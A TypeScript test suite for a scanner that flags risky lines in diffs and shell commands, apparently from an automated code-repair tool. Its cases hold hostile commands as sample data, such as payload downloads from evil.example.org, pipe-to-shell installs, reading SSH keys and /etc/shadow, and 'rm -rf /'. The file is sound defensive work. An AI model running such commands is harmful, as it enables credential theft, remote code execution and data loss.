import { test } from 'node:test';
import assert from 'node:assert/strict';
import { SCAN_PATTERNS, hasBlocking, scanCommand, scanDiff, type ScanFinding, type ScanOptions } from '../../src/repair/scanner.js';

const OPTIONS: ScanOptions = { allowHosts: ['api.example.com', '*.internal.example.net'] };

/** A diff that adds `added` to `file` between two context lines, as git writes it. */
function diffOf(file: string, added: readonly string[], start = 10): string {
  return [
    `diff --git a/${file} b/${file}`,
    'index 3b18e51..a1c2d3f 100644',
    `--- a/${file}`,
    `+++ b/${file}`,
    `@@ -${start},2 +${start},${added.length + 2} @@`,
    ' ',
    ...added.map((line) => `+${line}`),
    ' ',
    '',
  ].join('\n');
}

/** A snippet to scan: lines added to a file (through scanDiff), a command (through scanCommand), or a scan of its own. */
type Probe = { file: string; lines: readonly string[] } | { command: string } | { scan: () => ScanFinding[] };

function run(probe: Probe): ScanFinding[] {
  if ('scan' in probe) return probe.scan();
  if ('command' in probe) return scanCommand(probe.command, OPTIONS);
  return scanDiff(diffOf(probe.file, probe.lines), OPTIONS);
}

const py = (...lines: string[]): Probe => ({ file: 'app/repair_fix.py', lines });
const js = (...lines: string[]): Probe => ({ file: 'src/worker/fix.ts', lines });
const sh = (command: string): Probe => ({ command });

/** One case that must be found and one similar-looking one that must not, for every pattern. */
const CASES: Record<string, { positive: Probe; negative: Probe }> = {
  'py-eval': { positive: py('result = eval(user_expr)'), negative: py('score = evaluate(model)', 'model.eval()', 'value = ast.literal_eval(text)') },
  'py-exec': { positive: py('exec(code, namespace)'), negative: py('cursor.execute("SELECT 1")', 'executor.submit(job)') },
  'py-compile': { positive: py('code = compile(source, "<fix>", "exec")'), negative: py('pattern = re.compile(r"\\d+")') },
  'py-dynamic-import': {
    positive: py('plugin = importlib.import_module(name)'),
    negative: py('json = __import__("json")', 'path = importlib.import_module("os.path")'),
  },
  'js-eval': { positive: js('const value = eval(expression);'), negative: js('const value = evaluate(expression);', 'const r = retrieval(q);') },
  'js-function-constructor': {
    positive: js("const fn = new Function('a', 'b', body);"),
    negative: js('function add(a: number, b: number) { return a + b; }', 'if (isFunction(cb)) cb();'),
  },
  'js-dynamic-import': {
    positive: js('const plugin = await import(pluginPath);'),
    negative: js("const { readFile } = await import('node:fs/promises');", "const config = require('./config.json');"),
  },
  'js-vm-run': { positive: js('vm.runInNewContext(code, sandbox);'), negative: js('const vmName = config.vm.name;') },
  'js-string-timer': { positive: js('setTimeout("retry()", 1000);'), negative: js('setTimeout(() => retry(), 1000);') },
  'py-os-system': { positive: py('os.system(f"systemctl restart {name}")'), negative: py('path = os.path.join(root, name)') },
  'py-subprocess-shell': {
    positive: py('subprocess.run(cmd, shell=True, check=True)'),
    negative: py('subprocess.run(["systemctl", "restart", name], check=True, shell=False)'),
  },
  'py-pty-spawn': { positive: py('pty.spawn("/bin/bash")'), negative: py('master, slave = pty.openpty()') },
  'js-child-process-exec': {
    positive: js("const out = execSync('git status --porcelain');"),
    negative: js("const out = execFileSync('git', ['status', '--porcelain']);", 'const m = /(\\d+) passed/.exec(output);'),
  },
  'js-spawn-shell': {
    positive: js("spawn(cmd, { shell: true, stdio: 'inherit' });"),
    negative: js("spawn('git', ['pull', '--ff-only'], { shell: false });"),
  },
  'shell-eval': { positive: sh('eval "$FIX_CMD"'), negative: sh('npm run evaluate && ./scripts/run-eval-suite.sh') },
  'shell-c-variable': { positive: sh('bash -c "$REPAIR_CMD"'), negative: sh("bash -c 'systemctl --user restart app'") },
  'pipe-to-shell': {
    positive: sh('curl -fsSL https://api.example.com/install.sh | sh'),
    negative: sh('ps aux | grep node | sort || bash scripts/report.sh'),
  },
  'py-native-code': { positive: py('import ctypes', 'libc = ctypes.CDLL("libc.so.6")'), negative: py('import typing') },
  'py-pickle-load': { positive: py('state = pickle.load(fh)'), negative: py('blob = pickle.dumps(state)') },
  'py-shelve-open': { positive: py('db = shelve.open("cache.db")'), negative: py('db = sqlite3.connect("cache.db")') },
  'py-marshal-load': { positive: py('code = marshal.loads(data)'), negative: py('data = marshal.dumps(code)') },
  'py-yaml-load': {
    positive: py('config = yaml.load(fh)'),
    negative: py('config = yaml.load(fh, Loader=yaml.SafeLoader)', 'config = yaml.safe_load(fh)'),
  },
  'js-native-addon': { positive: js("const ffi = require('ffi-napi');"), negative: js("const fs = require('node:fs');") },
  'py-rmtree': { positive: py('shutil.rmtree(cache_dir)'), negative: py('shutil.copytree(src, dst)') },
  'rm-recursive': { positive: sh('rm -rf /var/lib/app/cache'), negative: sh('rm -f file.txt') },
  'js-rm-recursive': {
    positive: js('await fs.rm(cacheDir, { recursive: true, force: true });'),
    negative: js('fs.mkdirSync(dir, { recursive: true });', 'fs.rmSync(tmpFile, { force: true });'),
  },
  'secret-dotenv': {
    positive: py('load_dotenv(".env")'),
    negative: py('home = os.environ["HOME"]', 'shutil.copy(".env.example", "/tmp/defaults")', 'env = self.env.get("MODE")'),
  },
  'secret-key-file': { positive: sh('cat ~/.ssh/id_rsa'), negative: sh('ssh-keygen -l -f deploy/id_ed25519.pub') },
  'secret-credentials-file': { positive: py('with open("credentials.json") as fh:'), negative: py('with open("config.json") as fh:') },
  'secret-system-file': { positive: sh('cat /etc/shadow'), negative: sh('cat /etc/hostname') },
  'network-remote-shell': {
    positive: sh("ssh deploy@db.example.org 'systemctl restart app'"),
    negative: sh('ssh -p 2222 deploy@api.example.com uptime && nc -l 8080 && rsync -a src/ backup/'),
  },
  'network-host': { positive: sh('curl -s https://evil.example.org/payload'), negative: sh('curl -s https://api.example.com/health') },
  sudo: { positive: sh('sudo systemctl restart nginx'), negative: sh('systemctl --user restart nightshift && echo pseudo-terminal') },
  'su-switch-user': { positive: sh('su - postgres -c "psql -c \'select 1\'"'), negative: sh('du -sh /var/log && sum report.txt') },
  'chmod-world-writable': { positive: sh('chmod -R 777 /srv/app'), negative: sh('chmod 644 config.yml') },
  setuid: { positive: sh('chmod u+s /usr/local/bin/helper'), negative: sh('chmod u+x scripts/deploy.sh') },
  chown: { positive: sh('chown -R www-data:www-data /srv/app'), negative: sh("stat -c '%U' /srv/app") },
  'py-input': { positive: py('answer = input("Continue? [y/N] ")'), negative: py('answer = parse_input(raw)') },
  'js-prompt': {
    positive: js('const rl = readline.createInterface({ input: process.stdin, output: process.stdout });'),
    negative: js('const rl = readline.createInterface({ input: fs.createReadStream(logFile) });'),
  },
  'bidi-control': { positive: js('const role = "user\u202E // admin\u2066";'), negative: js('const role = "user"; // admin') },
  'scan-incomplete': {
    positive: { scan: () => scanDiff(diffOf('notes.txt', ['fine']) + ' '.repeat(4_000_001), OPTIONS) },
    negative: { scan: () => scanDiff(diffOf('notes.txt', ['fine']), OPTIONS) },
  },
};

test('there are at least 21 patterns, each with a unique kebab-case id, a severity and a reason', () => {
  assert.ok(SCAN_PATTERNS.length >= 21, `${SCAN_PATTERNS.length} patterns`);
  const ids = SCAN_PATTERNS.map((p) => p.id);
  assert.equal(new Set(ids).size, ids.length);
  for (const p of SCAN_PATTERNS) {
    assert.match(p.id, /^[a-z0-9]+(?:-[a-z0-9]+)*$/);
    assert.ok(p.severity === 'blocking' || p.severity === 'warning');
    assert.ok(p.reason.length > 0 && !p.reason.includes('\n'));
    assert.ok(p.languages.length > 0);
  }
});

test('every pattern has a test case, and every test case a pattern', () => {
  const ids = new Set(SCAN_PATTERNS.map((p) => p.id));
  assert.deepEqual(
    SCAN_PATTERNS.map((p) => p.id).filter((id) => !(id in CASES)),
    [],
  );
  assert.deepEqual(
    Object.keys(CASES).filter((id) => !ids.has(id)),
    [],
  );
});

for (const pattern of SCAN_PATTERNS) {
  test(`${pattern.id}: found in the positive case, not in the negative one`, () => {
    const cases = CASES[pattern.id];
    assert.ok(cases, `no test case for ${pattern.id}`);
    const found = run(cases.positive).filter((f) => f.id === pattern.id);
    assert.ok(found.length > 0, `${pattern.id} not found in ${JSON.stringify(cases.positive)}`);
    for (const f of found) assert.equal(f.severity, pattern.severity);
    const wrong = run(cases.negative).filter((f) => f.id === pattern.id);
    assert.deepEqual(wrong, [], `${pattern.id} found in ${JSON.stringify(cases.negative)}`);
  });
}

test('findings carry the file and the line in the new file, from the hunk headers', () => {
  const diff = [
    'diff --git a/app/jobs.py b/app/jobs.py',
    'index 1111111..2222222 100644',
    '--- a/app/jobs.py',
    '+++ b/app/jobs.py',
    '@@ -3,4 +3,5 @@ import os',
    ' def run(job):',
    '-    return job()',
    '+    os.system(job.command)',
    '+    return None',
    ' ',
    ' def stop():',
    '@@ -40,2 +41,3 @@ def stop():',
    '     pass',
    '+    data = pickle.loads(blob)',
    ' ',
    'diff --git a/bin/deploy b/bin/deploy',
    'new file mode 100755',
    'index 0000000..3333333',
    '--- /dev/null',
    '+++ b/bin/deploy',
    '@@ -0,0 +1,2 @@',
    '+#!/bin/sh',
    '+sudo systemctl restart app',
    '',
  ].join('\n');
  const found = scanDiff(diff, OPTIONS).map((f) => [f.id, f.file, f.line]);
  assert.deepEqual(found, [
    ['py-os-system', 'app/jobs.py', 4],
    ['py-pickle-load', 'app/jobs.py', 42],
    ['sudo', 'bin/deploy', 2],
  ]);
});

test("removed and context lines are not scanned, and neither are the '---' / '+++' headers", () => {
  const diff = [
    'diff --git a/src/sudo/rm -rf.ts b/src/sudo/rm -rf.ts',
    'index 1111111..2222222 100644',
    '--- a/src/sudo/rm -rf.ts',
    '+++ b/src/sudo/rm -rf.ts',
    '@@ -1,3 +1,3 @@',
    ' const out = execSync(command);',
    '-const value = eval(expression);',
    '+const value = evaluate(expression);',
    ' export { out, value };',
    '',
  ].join('\n');
  assert.deepEqual(scanDiff(diff, OPTIONS), []);
});

test('an added line that looks like a header inside a hunk is still scanned (git reads hunks by their counts)', () => {
  const diff = ['--- a/deploy.sh', '+++ b/deploy.sh', '@@ -1,1 +1,2 @@', '--- old', '+++ sudo reboot', '+sudo reboot', ''].join('\n');
  const found = scanDiff(diff, OPTIONS).filter((f) => f.id === 'sudo');
  assert.deepEqual(
    found.map((f) => f.line),
    [1, 2],
  );
});

test('comment-only lines are not findings', () => {
  assert.deepEqual(scanDiff(diffOf('app/x.py', ['# never eval(user input) here', '    # os.system is banned']), OPTIONS), []);
  assert.deepEqual(scanDiff(diffOf('src/x.ts', ['// no eval(), no new Function()', ' * see exec() in the docs']), OPTIONS), []);
  assert.deepEqual(scanCommand('# sudo rm -rf / is what not to do', OPTIONS), []);
  // A trailing comment does not hide the code before it.
  assert.ok(scanDiff(diffOf('app/x.py', ['x = eval(s)  # fine']), OPTIONS).some((f) => f.id === 'py-eval'));
});

test('the language comes from the extension; other files get the language-independent patterns only', () => {
  const ids = (file: string, lines: string[]) => scanDiff(diffOf(file, lines), OPTIONS).map((f) => f.id);
  assert.deepEqual(ids('app/x.py', ['eval(s)']), ['py-eval']);
  assert.deepEqual(ids('web/x.mjs', ['eval(s)']), ['js-eval']);
  assert.deepEqual(ids('scripts/x.bash', ['eval "$s"']), ['shell-eval']);
  assert.deepEqual(ids('README.md', ['Run eval(x) and exec(y), or os.system(z)']), []);
  assert.deepEqual(ids('config.json', ['{ "cmd": "rm -rf /tmp/cache", "url": "https://evil.example.org" }']), ['rm-recursive', 'network-host']);
  assert.deepEqual(ids('notes.txt', ['then sudo cat ~/.ssh/id_rsa']), ['secret-key-file', 'sudo']);
});

test('a file with no extension is shell, unless its first line is a shebang for another language', () => {
  const newFile = (name: string, lines: string[]) =>
    [
      `diff --git a/${name} b/${name}`,
      'new file mode 100755',
      '--- /dev/null',
      `+++ b/${name}`,
      `@@ -0,0 +1,${lines.length} @@`,
      ...lines.map((l) => `+${l}`),
      '',
    ].join('\n');
  const ids = (diff: string) => scanDiff(diff, OPTIONS).map((f) => f.id);
  assert.deepEqual(ids(newFile('bin/fix', ['eval "$1"', 'x = eval(y)'])), ['shell-eval']);
  assert.deepEqual(ids(newFile('bin/fix', ['#!/usr/bin/env python3', 'x = eval(y)'])), ['py-eval']);
  assert.deepEqual(ids(newFile('bin/fix', ['#!/usr/bin/env node', 'const x = eval(y);'])), ['js-eval']);
  assert.deepEqual(ids(newFile('bin/fix', ['#!/bin/bash', 'eval "$1"'])), ['shell-eval']);
});

test('allowHosts: exact names and *.suffix forms; loopback always; the host is named', () => {
  const hosts = (command: string, allowHosts: string[]) => scanCommand(command, { allowHosts }).filter((f) => f.id === 'network-host');
  assert.deepEqual(hosts('curl https://API.Example.com/v1/health', ['api.example.com']), []);
  assert.deepEqual(hosts('curl https://a.b.internal.example.net:8443/x', ['*.internal.example.net']), []);
  // The wildcard is the subdomains, not the name itself, and never a look-alike.
  assert.equal(hosts('curl https://internal.example.net/x', ['*.internal.example.net']).length, 1);
  assert.equal(hosts('curl https://evilinternal.example.net/x', ['*.internal.example.net']).length, 1);
  assert.equal(hosts('curl https://api.example.com.evil.org/x', ['api.example.com']).length, 1);
  for (const url of ['http://localhost:8080/health', 'http://127.0.0.1:3000', 'http://[::1]:9090/metrics']) assert.deepEqual(hosts(`curl ${url}`, []), [], url);
  const [finding, ...more] = hosts('wget http://api.example.com@evil.example.org/x.sh', ['api.example.com']);
  assert.equal(more.length, 0);
  assert.match(finding!.reason, /evil\.example\.org/);
  assert.equal(finding!.severity, 'blocking');
  // Each unlisted host on a line is named; in code the same as in a command.
  const inCode = scanDiff(diffOf('app/x.py', ['requests.get("https://one.example.org/a") or urllib.request.urlopen("http://two.example.org")']), OPTIONS);
  assert.deepEqual(
    inCode.filter((f) => f.id === 'network-host').map((f) => /reaches (\S+),/.exec(f.reason)?.[1]),
    ['one.example.org', 'two.example.org'],
  );
  assert.deepEqual(scanDiff(diffOf('src/x.ts', ["await fetch('https://api.example.com/v1');", "axios.get('http://localhost:3000');"]), OPTIONS), []);
});

test('recursive rm in its usual spellings, and the non-recursive ones that are fine', () => {
  const found = (command: string) => scanCommand(command, OPTIONS).some((f) => f.id === 'rm-recursive');
  for (const command of [
    'rm -rf build',
    'rm -fr build',
    'rm -r -f build',
    'rm -f -r build',
    'rm -R dist',
    'rm --recursive dist',
    '/bin/rm -rf /',
    'find . -name "*.pyc" -delete',
  ]) {
    assert.ok(found(command), command);
  }
  for (const command of ['rm -f file.txt', 'rm old.log', 'git rm -r --cached dist', 'npm run rm-cache', 'docker rm -f web'])
    assert.ok(!found(command), command);
  assert.ok(
    scanCommand('rm \\\n  -rf /srv/app', OPTIONS).some((f) => f.id === 'rm-recursive'),
    'a continued line is one command',
  );
  assert.ok(scanDiff(diffOf('app/x.py', ['subprocess.run(["rm", "-rf", path])']), OPTIONS).some((f) => f.id === 'rm-recursive'));
  assert.ok(scanDiff(diffOf('src/x.ts', ["execFileSync('rm', ['-r', '-f', dir]);"]), OPTIONS).some((f) => f.id === 'rm-recursive'));
});

test('more positive and negative spellings of the privilege and shell patterns', () => {
  const ids = (command: string) => scanCommand(command, OPTIONS).map((f) => f.id);
  assert.ok(ids('chmod a+rwx /srv/shared').includes('chmod-world-writable'));
  assert.ok(ids('chmod o+w /srv/shared').includes('chmod-world-writable'));
  assert.ok(!ids('chmod 755 bin/run && chmod 600 key.txt && chmod +x run.sh').includes('chmod-world-writable'));
  assert.ok(ids('chmod 4755 /usr/local/bin/helper').includes('setuid'));
  assert.ok(ids('wget -qO- https://api.example.com/x | sudo bash').includes('pipe-to-shell'));
  assert.ok(ids('bash <(curl -s https://api.example.com/x)').includes('pipe-to-shell'));
  assert.ok(ids('sh -c "cd $DIR && make"').includes('shell-c-variable'));
  assert.ok(ids('python3 -c "$SNIPPET"').includes('shell-c-variable'));
  assert.ok(ids('su').includes('su-switch-user'));
  assert.ok(ids('scp dump.sql backup@files.example.org:/srv/dumps/').includes('network-remote-shell'));
  assert.ok(ids('rsync -az build/ mirror.example.org:/var/www/').includes('network-remote-shell'));
  assert.ok(!ids('nc -zv localhost 5432 && ssh 127.0.0.1 true').includes('network-remote-shell'));
  const pyIds = (line: string) => scanDiff(diffOf('app/x.py', [line]), OPTIONS).map((f) => f.id);
  assert.ok(pyIds('os.setuid(0)').includes('setuid'));
  assert.ok(pyIds('os.chmod(path, 0o777)').includes('chmod-world-writable'));
  assert.ok(!pyIds('os.chmod(path, 0o644)').includes('chmod-world-writable'));
  assert.ok(pyIds('config = yaml.load(open(path), Loader=yaml.Loader)').includes('py-yaml-load'));
  assert.ok(!pyIds('config = yaml.load(open(path), Loader=yaml.CSafeLoader)').includes('py-yaml-load'));
  assert.ok(pyIds('subprocess.run(["bash", "-c", cmd])').includes('py-subprocess-shell'));
  const jsIds = (line: string) => scanDiff(diffOf('src/x.js', [line]), OPTIONS).map((f) => f.id);
  assert.ok(jsIds("require('child_process').exec(cmd);").includes('js-child-process-exec'));
  assert.ok(jsIds("spawn('/bin/sh', ['-c', cmd]);").includes('js-spawn-shell'));
  assert.ok(jsIds('fs.rmSync(dir, { recursive: true });').includes('js-rm-recursive'));
  assert.ok(jsIds('const key = entry.key; const env = process.env.HOME;').length === 0);
});

test('hasBlocking is true only when a finding is blocking', () => {
  assert.equal(hasBlocking([]), false);
  assert.equal(hasBlocking(scanDiff(diffOf('app/x.py', ['answer = input("go? ")']), OPTIONS)), false);
  assert.equal(hasBlocking(scanDiff(diffOf('app/x.py', ['answer = input("go? ")', 'eval(answer)']), OPTIONS)), true);
  assert.equal(hasBlocking([{ id: 'x', severity: 'warning', reason: 'r', excerpt: '' }]), false);
  assert.equal(hasBlocking([{ id: 'x', severity: 'blocking', reason: 'r', excerpt: '' }]), true);
});

test('excerpts are clipped to 120 characters and show hidden characters', () => {
  const long = `x = ${'a'.repeat(500)} + eval(s) + ${'b'.repeat(500)}`;
  const [finding] = scanDiff(diffOf('app/x.py', [long]), OPTIONS);
  assert.ok(finding && finding.excerpt.length <= 120);
  assert.match(finding.excerpt, /eval\(s\)/);
  const [bidi] = scanDiff(diffOf('src/x.ts', ['const ok = "\u202E";']), OPTIONS);
  assert.ok(bidi && bidi.excerpt.includes('<U+202E>') && !bidi.excerpt.includes('\u202E'));
});

test('a match far out on a very long line is found, once', () => {
  const line = `${' '.repeat(3790)}eval(s)${' '.repeat(20_000)}eval(t)`;
  const found = scanDiff(diffOf('app/x.py', [line]), OPTIONS).filter((f) => f.id === 'py-eval');
  assert.equal(found.length, 1);
  assert.match(found[0]!.excerpt, /eval\(s\)/);
});

test('bad input never throws', () => {
  const bad = [undefined, null, 42, {}, ['+eval(x)']] as unknown as string[];
  for (const input of bad) {
    assert.deepEqual(scanDiff(input, OPTIONS), []);
    assert.deepEqual(scanCommand(input, OPTIONS), []);
  }
  assert.ok(scanCommand('sudo true', undefined as unknown as ScanOptions).some((f) => f.id === 'sudo'));
  assert.ok(scanCommand('curl https://x.example.org', { allowHosts: [null, 7] as unknown as string[] }).some((f) => f.id === 'network-host'));
  assert.equal(hasBlocking(undefined as unknown as ScanFinding[]), false);
  assert.deepEqual(scanDiff('@@ garbage @@\n+', OPTIONS), []);
});

/** Deterministic garbage (xorshift32), so a failure can be reproduced. */
function garbage(length: number, seed: number, alphabet?: string): string {
  let state = seed;
  const chars: string[] = [];
  for (let i = 0; i < length; i++) {
    state ^= state << 13;
    state ^= state >>> 17;
    state ^= state << 5;
    const r = state >>> 0;
    chars.push(alphabet ? alphabet[r % alphabet.length]! : String.fromCharCode(r >>> 16));
  }
  return chars.join('');
}

test('huge and pathological input returns quickly, without throwing', () => {
  const TWO_MB = 2 * 1024 * 1024;
  const hostile = '+-_/.\'"`$|&;(){}[]<>:=,@#~!*\\ \n\tabcdefrmshchmodevalimportyamlloadhttps';
  // No file header, so every pattern of every language runs on it.
  const denseLine = (unit: string) => `@@ -1 +1 @@\n+${unit.repeat(Math.ceil(100_000 / unit.length))}\n`;
  const inputs: [string, () => unknown][] = [
    ['2 MB of random code units', () => scanDiff(garbage(TWO_MB, 1), OPTIONS)],
    ['2 MB of random code units as a command', () => scanCommand(garbage(TWO_MB, 2), OPTIONS)],
    ['2 MB of hostile ASCII, every line added', () => scanDiff(`+++ b/x\n@@ -1 +1 @@\n${garbage(TWO_MB, 3, hostile).replace(/\n/g, '\n+')}`, OPTIONS)],
    ['2 MB of hostile ASCII in an unknown language', () => scanDiff(`@@ x @@\n+${garbage(TWO_MB, 4, hostile)}`, OPTIONS)],
    ["'+'.repeat(100000)", () => scanDiff('+'.repeat(100_000), OPTIONS)],
    ['a 100 000-character added line of "+"', () => scanDiff(denseLine('+'), OPTIONS)],
    ...[
      'a',
      ' ',
      '-',
      "'",
      '/',
      'rm -f ',
      'rm(',
      'find ',
      'yaml.load(',
      'import(',
      "import('",
      'http://',
      'https://a@',
      'chmod(',
      'sh -c "',
      '| sudo -x ',
      '.env.x',
      '~/a/',
      'ssh a@b ',
    ].map((unit): [string, () => unknown] => [`a line of ${JSON.stringify(unit)} repeated`, () => scanDiff(denseLine(unit), OPTIONS)]),
    ['100 000 added lines of eval', () => scanDiff(`+++ b/x.py\n@@ -1 +1 @@\n${'+eval(x)\n'.repeat(100_000)}`, OPTIONS)],
  ];
  for (const [name, scan] of inputs) {
    const started = performance.now();
    assert.doesNotThrow(scan, name);
    const ms = performance.now() - started;
    assert.ok(ms < 5000, `${name} took ${Math.round(ms)} ms`);
  }
  // The same finding over and over is reported a bounded number of times.
  assert.ok(scanDiff(`+++ b/x.py\n@@ -1 +1 @@\n${'+eval(x)\n'.repeat(1000)}`, OPTIONS).length <= 50);
});
